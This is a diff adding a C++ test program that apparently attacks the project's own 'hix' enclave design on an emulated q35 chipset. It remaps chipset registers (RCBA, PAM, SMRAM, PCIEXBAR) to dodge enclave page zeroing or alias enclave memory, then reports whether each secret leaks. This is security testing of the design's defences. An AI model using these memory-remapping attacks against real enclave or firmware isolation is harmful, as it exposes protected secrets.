@@ -1,0 +1,191 @@
+// Attack: the q35 chipset's decode registers (docs/specs/hix-isa.md §16.1,
+// §16.2). Each re-decodes guest-physical addresses, so an EPC address can
+// stop reaching the RAM that was added there, or the RAM can gain a second
+// address. The attacker's kernel places an enclave's pages itself (a
+// malicious OS needs no hix.ko) and then:
+//
+//   rcba-after-death  moves the ICH9 root complex register block (RCBA,
+//                     00:1f.0 0xF0: 16 KiB of read/write MMIO at priority 1)
+//                     over the enclave, destroys it, moves RCBA back and
+//                     reads the page: EDESTROY's zeroing went to the cover
+//                     and the secret is still in RAM;
+//   pam-after-death   the same with PAM (00:00.0 0x92, 0xCC000-0xCFFFF): the
+//                     enclave lives in RAM there, PAM sends the range to
+//                     PCI (ROM) while EDESTROY zeroes it;
+//   smram-alias       with SMRAM open (D_OPEN) the enclave lives in RAM at
+//                     0xB0000; H_SMRAME then opens the same RAM at
+//                     0xFEDA0000 + offset, an address the EPC check knows
+//                     nothing about: root reads the live secret there;
+//   pciexbar-move     with an enclave alive, moves the ECAM window (PCIEXBAR,
+//                     00:00.0 0x60) to an unused address and back (over RAM
+//                     it would cover 64 MiB or more of the kernel's memory).
+#include "platform_common.hpp"
+
+namespace {
+
+using namespace hix::platform;
+
+constexpr std::uint32_t kRcba = 0xF0;
+constexpr std::uint32_t kRcbaEnable = 1;
+constexpr std::uint32_t kPam2 = 0x92;        // lo nibble 0xC8000, hi nibble 0xCC000
+constexpr std::uint8_t kPamHiRw = 0x30;      // read and write RAM
+constexpr std::uint8_t kPamHiMask = 0xF0;
+constexpr std::uint64_t kPamBase = 0xCC000;
+constexpr std::uint32_t kSmram = 0x9D;
+constexpr std::uint8_t kDOpen = 0x40;
+constexpr std::uint32_t kEsmramc = 0x9E;
+constexpr std::uint8_t kHSmrame = 0x80;
+constexpr std::uint64_t kLowSmram = 0xB0000;  // outside SeaBIOS's SMM area (0xA0000-0xAFFFF)
+constexpr std::uint64_t kOpenHigh = 0xFEDA0000 - 0xA0000;  // alias of 0xA0000-0xBFFFF
+constexpr std::uint32_t kPciexbar = 0x60;
+
+// Saves two pages of low memory and puts them back.
+class SavedPages {
+ public:
+  SavedPages(AttackDevice& dev, std::uint64_t base) : dev_(dev), base_(base) {
+    for (std::size_t i = 0; i < pages_.size(); ++i) dev_.read_phys(base_ + i * HIX_PAGE_SIZE, pages_[i]);
+  }
+  ~SavedPages() {
+    for (std::size_t i = 0; i < pages_.size(); ++i) dev_.write_phys(base_ + i * HIX_PAGE_SIZE, pages_[i]);
+  }
+  SavedPages(const SavedPages&) = delete;
+  SavedPages& operator=(const SavedPages&) = delete;
+
+ private:
+  AttackDevice& dev_;
+  std::uint64_t base_;
+  std::array<Page, 2> pages_{};
+};
+
+void rcba_after_death(AttackDevice& dev) {
+  Config lpc(kLpc);
+  const std::uint64_t block = dev.block(2);  // 16 KiB, 16 KiB aligned: RCBA's granule
+  const Secret secret = random_secret();
+  const auto old = lpc.read<std::uint32_t>(kRcba);
+  RawEnclave enclave(dev, block, block + HIX_PAGE_SIZE, secret);
+  if (enclave.create_status != HIX_OK || enclave.add_status != HIX_OK) {
+    report("chipset", "rcba-after-death", "refused", "ecreate=%u eadd=%u", enclave.create_status,
+           enclave.add_status);
+    return;
+  }
+  const auto target = static_cast<std::uint32_t>(block) | kRcbaEnable;
+  lpc.write<std::uint32_t>(kRcba, target);
+  const auto moved = lpc.read<std::uint32_t>(kRcba);
+  const std::uint32_t destroyed = enclave.destroy();
+  lpc.write<std::uint32_t>(kRcba, old);
+  Page after{};
+  const int err = dev.read_phys(block + HIX_PAGE_SIZE, after);
+  report("chipset", "rcba-after-death", outcome(err == 0 && contains(after, secret)),
+         "rcba_before=0x%08x rcba_target=0x%08x rcba_readback=0x%08x destroy=%u page=0x%llx "
+         "after=%s",
+         old, target, moved, destroyed, static_cast<unsigned long long>(block + HIX_PAGE_SIZE),
+         describe(after, secret));
+}
+
+void pam_after_death(AttackDevice& dev) {
+  Config mch(kMch);
+  const auto old = mch.read<std::uint8_t>(kPam2);
+  const auto ram = static_cast<std::uint8_t>((old & ~kPamHiMask) | kPamHiRw);
+  const auto pci = static_cast<std::uint8_t>(old & ~kPamHiMask);
+  mch.write<std::uint8_t>(kPam2, ram);
+  std::uint8_t moved = 0;
+  std::uint32_t destroyed = 0, created = 0, added = 0;
+  Page after{};
+  const Secret secret = random_secret();
+  {
+    SavedPages keep(dev, kPamBase);
+    {
+      RawEnclave enclave(dev, kPamBase, kPamBase + HIX_PAGE_SIZE, secret);
+      created = enclave.create_status;
+      added = enclave.add_status;
+      if (created == HIX_OK && added == HIX_OK) {
+        mch.write<std::uint8_t>(kPam2, pci);
+        moved = mch.read<std::uint8_t>(kPam2);
+        destroyed = enclave.destroy();
+        mch.write<std::uint8_t>(kPam2, ram);
+        dev.read_phys(kPamBase + HIX_PAGE_SIZE, after);
+      }
+    }
+  }
+  mch.write<std::uint8_t>(kPam2, old);
+  if (created != HIX_OK || added != HIX_OK) {
+    report("chipset", "pam-after-death", "refused", "ecreate=%u eadd=%u pam=0x%02x", created, added,
+           old);
+    return;
+  }
+  report("chipset", "pam-after-death", outcome(contains(after, secret)),
+         "pam_before=0x%02x pam_ram=0x%02x pam_target=0x%02x pam_readback=0x%02x destroy=%u "
+         "page=0x%llx after=%s",
+         old, ram, pci, moved, destroyed, static_cast<unsigned long long>(kPamBase + HIX_PAGE_SIZE),
+         describe(after, secret));
+}
+
+void smram_alias(AttackDevice& dev) {
+  Config mch(kMch);
+  const auto smram = mch.read<std::uint8_t>(kSmram);
+  const auto esmramc = mch.read<std::uint8_t>(kEsmramc);
+  mch.write<std::uint8_t>(kSmram, static_cast<std::uint8_t>(smram | kDOpen));
+  mch.write<std::uint8_t>(kEsmramc, static_cast<std::uint8_t>(esmramc & ~kHSmrame));
+  const Secret secret = random_secret();
+  std::uint32_t created = 0, added = 0, destroyed = 0;
+  std::uint8_t esmramc_readback = 0;
+  std::array<std::uint8_t, 64> via_alias{}, via_epc{};
+  int alias_err = 0;
+  {
+    SavedPages keep(dev, kLowSmram);
+    RawEnclave enclave(dev, kLowSmram, kLowSmram + HIX_PAGE_SIZE, secret);
+    created = enclave.create_status;
+    added = enclave.add_status;
+    if (created == HIX_OK && added == HIX_OK) {
+      mch.write<std::uint8_t>(kEsmramc, static_cast<std::uint8_t>(esmramc | kHSmrame));
+      esmramc_readback = mch.read<std::uint8_t>(kEsmramc);
+      alias_err = dev.read_phys(kOpenHigh + kLowSmram + HIX_PAGE_SIZE, via_alias);
+      dev.read_phys(kLowSmram + HIX_PAGE_SIZE, via_epc);
+      destroyed = enclave.destroy();
+      mch.write<std::uint8_t>(kEsmramc, static_cast<std::uint8_t>(esmramc & ~kHSmrame));
+    }
+  }
+  mch.write<std::uint8_t>(kEsmramc, esmramc);
+  mch.write<std::uint8_t>(kSmram, smram);
+  if (created != HIX_OK || added != HIX_OK) {
+    report("chipset", "smram-alias", "refused", "ecreate=%u eadd=%u smram=0x%02x esmramc=0x%02x",
+           created, added, smram, esmramc);
+    return;
+  }
+  report("chipset", "smram-alias", outcome(alias_err == 0 && contains(via_alias, secret)),
+         "smram=0x%02x esmramc=0x%02x esmramc_readback=0x%02x alias=0x%llx via_alias=%s via_epc=%s "
+         "destroy=%u",
+         smram, esmramc, esmramc_readback,
+         static_cast<unsigned long long>(kOpenHigh + kLowSmram + HIX_PAGE_SIZE),
+         describe(via_alias, secret), describe(via_epc, secret), destroyed);
+}
+
+void pciexbar_move(AttackDevice& dev) {
+  Config mch(kMch);
+  const std::uint64_t block = dev.block(1);
+  const Secret secret = random_secret();
+  RawEnclave enclave(dev, block, block + HIX_PAGE_SIZE, secret);  // some enclave exists
+  const auto lo = mch.read<std::uint32_t>(kPciexbar);
+  const auto hi = mch.read<std::uint32_t>(kPciexbar + 4);
+  // Far above the guest's RAM and the MMIO windows; the size and enable bits
+  // stay as they are.
+  const std::uint32_t target_hi = 0xE;
+  mch.write<std::uint32_t>(kPciexbar + 4, target_hi);
+  const auto moved_hi = mch.read<std::uint32_t>(kPciexbar + 4);
+  mch.write<std::uint32_t>(kPciexbar + 4, hi);
+  const auto restored = mch.read<std::uint32_t>(kPciexbar + 4);
+  report("chipset", "pciexbar-move", outcome(moved_hi == target_hi),
+         "pciexbar=0x%08x%08x target_hi=0x%08x readback_hi=0x%08x restored_hi=0x%08x enclave=%s", hi,
+         lo, target_hi, moved_hi, restored, yes_no(enclave.create_status == HIX_OK));
+}
+
+}  // namespace
+
+int main() {
+  AttackDevice dev;
+  rcba_after_death(dev);
+  pam_after_death(dev);
+  smram_alias(dev);
+  pciexbar_move(dev);
+  return 0;
+}
